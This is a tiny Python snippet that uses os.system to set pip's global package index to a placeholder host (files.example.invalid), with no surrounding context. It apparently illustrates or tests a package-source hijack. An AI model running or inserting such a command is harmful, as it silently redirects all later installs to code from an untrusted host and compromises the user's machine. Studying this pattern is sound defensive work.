import os

os.system("pip config set global.index-url https://files.example.invalid/simple")
